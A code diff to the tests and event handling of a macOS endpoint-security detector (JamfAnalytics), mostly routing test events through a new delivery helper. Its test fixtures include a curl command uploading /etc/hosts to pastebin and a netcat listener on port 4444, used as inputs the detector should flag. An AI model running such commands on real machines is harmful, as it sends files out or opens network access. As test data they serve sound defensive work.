@@ -1110,6 +1110,11 @@ impl Detector for JamfAnalytics {
         }
     }
 
+    /// Only what it reads: `isNewDirectory` reads the mode, `args` / `commandLine` the argv, `tty` the terminal.
+    fn parts() -> EventParts {
+        EventParts::FILE_STATS | EventParts::ARGS | EventParts::PROCESS_SESSION
+    }
+
     fn on_event(&mut self, event: &Event) -> Result<Vec<Finding>, PluginError> {
         if let EventData::Exec(exec) = &event.data {
             // The old image is gone; the new one is the acting process from now on.
@@ -1215,8 +1220,7 @@ mod tests {
     }
 
     fn fired(event: &Event) -> Vec<String> {
-        JamfAnalytics::with(analytics())
-            .on_event(event)
+        testing::deliver(&mut JamfAnalytics::with(analytics()), event)
             .unwrap()
             .into_iter()
             .map(|f| f.rule)
@@ -1398,10 +1402,9 @@ mod tests {
                 testing::set_file(path, file.clone());
             }
             for e in &self.history {
-                detector.on_event(e).unwrap();
+                testing::deliver(&mut detector, e).unwrap();
             }
-            detector
-                .on_event(event)
+            testing::deliver(&mut detector, event)
                 .unwrap()
                 .into_iter()
                 .map(|f| f.rule)
@@ -2362,17 +2365,15 @@ mod tests {
     fn the_detector_remembers_images_until_they_exit_or_exec_again() {
         let mut d = JamfAnalytics::with(Vec::new());
         let first = proc_at(700, "/bin/zsh", "com.apple.zsh");
-        d.on_event(&testing::exec_of(first.clone(), &["zsh"]))
-            .unwrap();
+        testing::deliver(&mut d, &testing::exec_of(first.clone(), &["zsh"])).unwrap();
         assert_eq!(d.images.args(first.token), ["zsh"]);
         // exec_of replaces pidversion - 1: the zsh image is forgotten, the new one kept.
         let mut next = proc_at(700, "/usr/bin/env", "com.apple.env");
         next.token = testing::token(700, first.token.pidversion + 1);
-        d.on_event(&testing::exec_of(next.clone(), &["env"]))
-            .unwrap();
+        testing::deliver(&mut d, &testing::exec_of(next.clone(), &["env"])).unwrap();
         assert!(d.images.args(first.token).is_empty());
         assert_eq!(d.images.args(next.token), ["env"]);
-        d.on_event(&exited(next.clone(), 0)).unwrap();
+        testing::deliver(&mut d, &exited(next.clone(), 0)).unwrap();
         assert!(d.images.is_empty());
 
         let mut images = Images::default();
@@ -2505,8 +2506,7 @@ mod tests {
             "com.apple.curl",
             &["curl", "-d", "@/etc/hosts", "https://pastebin.com/api"],
         );
-        let rules: Vec<String> = d
-            .on_event(&hit)
+        let rules: Vec<String> = testing::deliver(&mut d, &hit)
             .unwrap()
             .into_iter()
             .map(|f| f.rule)
@@ -2520,8 +2520,7 @@ mod tests {
         testing::set_config(BUNDLED_KEY, "false");
         let mut d = JamfAnalytics::default();
         assert_eq!(d.len(), 1);
-        let rules: Vec<String> = d
-            .on_event(&hit)
+        let rules: Vec<String> = testing::deliver(&mut d, &hit)
             .unwrap()
             .into_iter()
             .map(|f| f.rule)
@@ -2584,13 +2583,16 @@ mod tests {
             testing::unlink(vim(), "/Library/Preferences/com.apple.TimeMachine.plist"),
             testing::exec_of(vim(), &["vim"]),
         ] {
-            d.on_event(&quiet).unwrap();
+            testing::deliver(&mut d, &quiet).unwrap();
         }
         assert_eq!(reads(&d), 1, "no analytic could fire on those");
-        d.on_event(&testing::close_modified(
-            vim(),
-            "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
-        ))
+        testing::deliver(
+            &mut d,
+            &testing::close_modified(
+                vim(),
+                "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
+            ),
+        )
         .unwrap();
         assert_eq!(reads(&d), 2);
 
@@ -2613,12 +2615,11 @@ mod tests {
             plist(json!({"LastKnownEncryptionState": "NotEncrypted", "LastKnownVolumeName": "TM"})),
         );
         let mut d = JamfAnalytics::with(analytics());
-        let findings = d
-            .on_event(&testing::close_modified(
-                testing::process("/usr/libexec/cfprefsd"),
-                time_machine,
-            ))
-            .unwrap();
+        let findings = testing::deliver(
+            &mut d,
+            &testing::close_modified(testing::process("/usr/libexec/cfprefsd"), time_machine),
+        )
+        .unwrap();
         let finding = findings
             .iter()
             .find(|f| f.rule == "TimeMachineNotEncrypted")
@@ -2673,7 +2674,7 @@ mod tests {
         let write =
             || testing::close_modified(testing::process("/usr/libexec/opendirectoryd"), root);
         let fires = |d: &mut JamfAnalytics| {
-            d.on_event(&write())
+            testing::deliver(d, &write())
                 .unwrap()
                 .iter()
                 .any(|f| f.rule == "RootUserEnabledOrPasswordChanged")
@@ -2896,12 +2897,14 @@ mod tests {
                     .iter()
                     .any(|(_, m)| m == "1 admin analytics loaded, 6 skipped")
             );
-            let rules: Vec<String> = d
-                .on_event(&exec("/usr/bin/nc", "com.apple.nc", &["nc", "-l", "4444"]))
-                .unwrap()
-                .into_iter()
-                .map(|f| f.rule)
-                .collect();
+            let rules: Vec<String> = testing::deliver(
+                &mut d,
+                &exec("/usr/bin/nc", "com.apple.nc", &["nc", "-l", "4444"]),
+            )
+            .unwrap()
+            .into_iter()
+            .map(|f| f.rule)
+            .collect();
             assert!(rules.contains(&"GoodAdmin".to_owned()), "{rules:?}");
             testing::reset();
         });
@@ -2926,9 +2929,8 @@ mod tests {
         let args: Vec<&str> = crafted.iter().map(String::as_str).collect();
         let events = 128u64;
         for _ in 0..events {
-            let findings = d
-                .on_event(&exec("/bin/echo", "com.apple.echo", &args))
-                .unwrap();
+            let findings =
+                testing::deliver(&mut d, &exec("/bin/echo", "com.apple.echo", &args)).unwrap();
             assert!(findings.is_empty());
         }
         assert_eq!(d.regex.cut_events, events);
@@ -2961,9 +2963,11 @@ mod tests {
                 .all(|m| m.contains("this event: Backtracker"))
         );
         // An ordinary argument still matches.
-        let findings = d
-            .on_event(&exec("/bin/echo", "com.apple.echo", &["echo", "aac"]))
-            .unwrap();
+        let findings = testing::deliver(
+            &mut d,
+            &exec("/bin/echo", "com.apple.echo", &["echo", "aac"]),
+        )
+        .unwrap();
         assert_eq!(findings.len(), 1);
         assert_eq!(d.regex.cut_events, events);
         testing::reset();
@@ -3107,9 +3111,8 @@ mod tests {
         let mut d = JamfAnalytics::with(vec![analytic]);
         let long: Vec<String> = (0..64).map(|_| "y".repeat(1000)).collect();
         let args: Vec<&str> = long.iter().map(String::as_str).collect();
-        let findings = d
-            .on_event(&exec("/bin/echo", "com.apple.echo", &args))
-            .unwrap();
+        let findings =
+            testing::deliver(&mut d, &exec("/bin/echo", "com.apple.echo", &args)).unwrap();
         let line = findings[0].evidence_value("Line").unwrap();
         assert_eq!(line.len(), MAX_CONTEXT_VALUE_BYTES);
     }
